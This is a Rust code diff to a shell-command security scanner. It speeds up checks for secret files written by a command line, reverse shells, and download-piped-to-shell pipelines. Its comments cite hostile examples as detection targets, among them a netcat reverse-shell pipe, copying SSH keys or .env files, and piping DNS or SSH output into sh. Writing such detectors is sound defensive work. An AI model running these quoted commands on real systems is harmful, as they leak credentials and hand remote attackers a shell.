@@ -235,48 +235,98 @@ fn secret_file(word: &str, scan: &Scan<'_>) -> Option<&'static str> {
 
 /// The kind of secret a file the line writes holds, when what the line puts there is
 /// one: the environment printed into it, or a secret file's contents (cat, cp, an archive).
+/// Looked up in what [`filled_index`] gathered once for the line.
 fn filled_from_secret(path: &str, scan: &Scan<'_>) -> Option<&'static str> {
-    let same = |target: &str| target.trim_start_matches("./") == path.trim_start_matches("./");
-    scan.line.commands.iter().find_map(|cmd| {
+    let path = path.trim_start_matches("./");
+    scan.filled
+        .iter()
+        .find(|(target, _)| target == path)
+        .map(|(_, kind)| *kind)
+}
+
+/// Every file a line writes with a secret in it, in the line's order, its name as written
+/// (`./` aside) and the kind: what a command prints into it (`> f`, `>> f`) after the
+/// environment was printed at or before its stage (`printenv | sort > env.txt`), or what it
+/// copies, moves or archives there from a file that holds keys or the project's secrets by
+/// its name (`cat ~/.ssh/id_rsa > k`, `cp .env x`, `tar czf a.tgz .env`), each named in the
+/// folder its command runs in. Gathered once, so that every word asking after it costs a
+/// look-up, not a walk of the line (a line of thousands of redirects stays linear).
+pub(super) fn filled_index(
+    line: &crate::shell::Line,
+    cwds: &[String],
+    work: &str,
+    home: &str,
+) -> Vec<(String, &'static str)> {
+    let prints_env = |c: &Command| {
+        super::words::SHOWS_ENVIRONMENT.contains(&c.program())
+            && c.args().iter().all(|a| a.starts_with('-'))
+    };
+    // The first stage printing the environment in each pipeline, by its holder.
+    let mut env_from: std::collections::HashMap<(usize, Option<usize>), usize> =
+        std::collections::HashMap::new();
+    for c in line.commands.iter().filter(|c| prints_env(c)) {
+        let first = env_from.entry((c.pipeline, c.parent)).or_insert(c.stage);
+        *first = (*first).min(c.stage);
+    }
+    let mut out = Vec::new();
+    for (index, cmd) in line.commands.iter().enumerate() {
         let args = cmd.args();
-        let into = cmd.redirects.iter().any(|r| {
-            matches!(r.op, RedirectOp::Write | RedirectOp::Append)
-                && matches!(r.fd, None | Some(1))
-                && same(&r.target)
-        });
-        let copied_to = matches!(cmd.program(), "cp" | "mv" | "install")
-            && positional(args).last().is_some_and(|last| same(last));
-        let archived = super::paths::archive_of(cmd).is_some_and(|archive| same(&archive));
-        if !(into || copied_to || archived) {
-            return None;
-        }
-        // The environment printed into it, by this command or a stage before it (`printenv
-        // | sort > env.txt`).
-        let prints_env = |c: &Command| {
-            super::words::SHOWS_ENVIRONMENT.contains(&c.program())
-                && c.args().iter().all(|a| a.starts_with('-'))
-        };
-        if into
-            && scan.line.commands.iter().any(|c| {
-                c.pipeline == cmd.pipeline
-                    && c.stage <= cmd.stage
-                    && c.parent == cmd.parent
-                    && prints_env(c)
+        let mut targets: Vec<(&str, bool)> = cmd
+            .redirects
+            .iter()
+            .filter(|r| {
+                matches!(r.op, RedirectOp::Write | RedirectOp::Append)
+                    && matches!(r.fd, None | Some(1))
             })
+            .map(|r| (r.target.as_str(), true))
+            .collect();
+        if matches!(cmd.program(), "cp" | "mv" | "install")
+            && let Some(last) = positional(args).last()
         {
-            return Some("env");
+            targets.push((last, false));
         }
-        args.iter()
-            .filter(|a| !same(a))
-            .find_map(|a| secret_by_name(a.trim_start_matches('@'), scan))
-    })
+        let archive = super::paths::archive_of(cmd);
+        if let Some(archive) = &archive {
+            targets.push((archive.as_str(), false));
+        }
+        if targets.is_empty() {
+            continue;
+        }
+        let place = super::Place {
+            cwd: cwds.get(index).map_or(work, String::as_str),
+            work,
+            home,
+        };
+        let env = env_from
+            .get(&(cmd.pipeline, cmd.parent))
+            .is_some_and(|first| *first <= cmd.stage);
+        for (target, into) in targets {
+            let target = target.trim_start_matches("./");
+            let kind = if into && env {
+                Some("env")
+            } else {
+                args.iter()
+                    .filter(|a| a.trim_start_matches("./") != target)
+                    .find_map(|a| secret_by_name_at(a.trim_start_matches('@'), &place))
+            };
+            if let Some(kind) = kind {
+                out.push((target.to_string(), kind));
+            }
+        }
+    }
+    out
 }
 
 /// A file that holds keys or the project's secrets by its name.
 fn secret_by_name(path: &str, scan: &Scan<'_>) -> Option<&'static str> {
+    secret_by_name_at(path, &scan.place)
+}
+
+/// [`secret_by_name`], named in the folder `place` says.
+fn secret_by_name_at(path: &str, place: &super::Place<'_>) -> Option<&'static str> {
     // `$HOME/.ssh/$f`: a file of the key folder, whichever one it is.
-    let abs = scan.place.resolve_under_prefix(path)?;
-    if super::paths::is_key_at(&abs, &scan.place) || super::paths::holds_keys(&abs, &scan.place) {
+    let abs = place.resolve_under_prefix(path)?;
+    if super::paths::is_key_at(&abs, place) || super::paths::holds_keys(&abs, place) {
         Some("keys")
     } else if holds_the_environment(&abs) {
         Some("env")
@@ -1611,6 +1661,10 @@ fn dropped_code(cmd: &Command, scan: &mut Scan<'_>) {
         })
         .map(|r| super::paths::basename_of(&r.target))
         .collect();
+    // Most commands write no file: the rest of the line is walked only for one that does.
+    if written.is_empty() || !Marks::of(&cmd.args().join(" ").to_lowercase()).wires_shell() {
+        return;
+    }
     let used_later = scan.line.commands.iter().any(|other| {
         !std::ptr::eq(other, cmd)
             && !matches!(other.program(), "echo" | "printf" | "rm" | "cat" | "ls")
@@ -1619,7 +1673,7 @@ fn dropped_code(cmd: &Command, scan: &mut Scan<'_>) {
                 .iter()
                 .any(|w| written.contains(&super::paths::basename_of(w)))
     });
-    if used_later && Marks::of(&cmd.args().join(" ").to_lowercase()).wires_shell() {
+    if used_later {
         reverse(
             scan,
             "code that wires a shell to a network socket, written to a file",
@@ -1983,19 +2037,48 @@ fn assigned_then_run(holder: &Command, line: &crate::shell::Line) -> bool {
 pub(super) fn pipelines(scan: &mut Scan<'_>) {
     let line = scan.line;
     let mut found: Vec<(usize, RuleId)> = Vec::new();
+    // Each pipeline's commands and each command's children, by index: every command asks
+    // about its own, so they are gathered once (a line of thousands of commands stays
+    // linear, not a walk of the whole line for each).
+    let mut by_pipeline: std::collections::HashMap<usize, Vec<usize>> =
+        std::collections::HashMap::new();
+    let mut children: Vec<Vec<usize>> = vec![Vec::new(); line.commands.len()];
+    for (at, c) in line.commands.iter().enumerate() {
+        by_pipeline.entry(c.pipeline).or_default().push(at);
+        if let Some(kids) = c.parent.and_then(|p| children.get_mut(p)) {
+            kids.push(at);
+        }
+    }
+    let same_pipeline = |cmd: &Command| -> Vec<(usize, &Command)> {
+        by_pipeline
+            .get(&cmd.pipeline)
+            .map(|ats| {
+                ats.iter()
+                    .filter_map(|&at| line.commands.get(at).map(|c| (at, c)))
+                    .collect()
+            })
+            .unwrap_or_default()
+    };
+    let children_of = |at: usize| {
+        children
+            .get(at)
+            .into_iter()
+            .flatten()
+            .filter_map(|&kid| line.commands.get(kid))
+    };
     for (index, cmd) in line.commands.iter().enumerate() {
         let program = cmd.program();
-        let later: Vec<&Command> = line
-            .commands
+        let stages = same_pipeline(cmd);
+        let later_at: Vec<(usize, &Command)> = stages
             .iter()
-            .filter(|c| c.pipeline == cmd.pipeline && c.stage > cmd.stage)
+            .copied()
+            .filter(|(_, c)| c.stage > cmd.stage)
             .collect();
+        let later: Vec<&Command> = later_at.iter().map(|(_, c)| *c).collect();
         // What xargs, another runner or eval runs writes to its output (`xargs curl`,
         // `tsp curl`, `pdsh -w h curl`).
-        let xargs_downloads = line.commands.iter().any(|c| {
-            c.parent == Some(index)
-                && matches!(c.via, Via::Xargs | Via::Runs | Via::Eval)
-                && is_downloader(c.program())
+        let xargs_downloads = children_of(index).any(|c| {
+            matches!(c.via, Via::Xargs | Via::Runs | Via::Eval) && is_downloader(c.program())
         });
         // What another machine answers is fetched as a download is: a DNS record (`dig +short
         // TXT x.example | sh`), a remote command's output (`ssh host cat x.sh | sh`), a raw
@@ -2008,24 +2091,18 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
         // A shell whose input and output are wired to a raw connection: a reverse shell
         // built from a pipe (`cat f | sh -i | nc host port > f`, `telnet | bash | telnet`).
         if is_connector(cmd)
-            && line.commands.iter().any(|c| {
-                c.pipeline == cmd.pipeline
-                    && !std::ptr::eq(c, cmd)
-                    && (is_runner(c) || is_interactive_shell(c))
-            })
+            && stages
+                .iter()
+                .any(|(_, c)| !std::ptr::eq(*c, cmd) && (is_runner(c) || is_interactive_shell(c)))
         {
             found.push((index, RuleId::ShellReverse));
         }
         // A later stage's runner, or the shell text it runs with the same input (`su -c sh`,
         // `sudo -u x sh -c 'bash'`).
         let runs_later = later.iter().any(|c| is_runner(c))
-            || line.commands.iter().any(|c| {
-                c.via == Via::ShellC
-                    && c.parent
-                        .and_then(|p| line.commands.get(p))
-                        .is_some_and(|holder| later.iter().any(|l| std::ptr::eq(*l, holder)))
-                    && is_runner(c)
-            });
+            || later_at
+                .iter()
+                .any(|(at, _)| children_of(*at).any(|c| c.via == Via::ShellC && is_runner(c)));
         // Something only known when it runs, piped into a shell.
         if cmd.dynamic_program && runs_later {
             found.push((index, RuleId::ShellUnknown));
@@ -2047,19 +2124,11 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
                 Via::Substitution => runs_its_text(holder) || assigned_then_run(holder, line),
                 _ => false,
             };
-            let last_stage = !line
-                .commands
-                .iter()
-                .any(|c| c.pipeline == cmd.pipeline && c.stage > cmd.stage);
+            let last_stage = later.is_empty();
             if handed && last_stage {
-                let stages: Vec<&Command> = line
-                    .commands
-                    .iter()
-                    .filter(|c| c.pipeline == cmd.pipeline)
-                    .collect();
-                if stages.iter().any(|c| is_downloader(c.program())) {
+                if stages.iter().any(|(_, c)| is_downloader(c.program())) {
                     found.push((index, RuleId::DownloadPipeShell));
-                } else if stages.iter().any(|c| is_decoder(c)) {
+                } else if stages.iter().any(|(_, c)| is_decoder(c)) {
                     found.push((index, RuleId::BlobDecodeRun));
                 }
             }
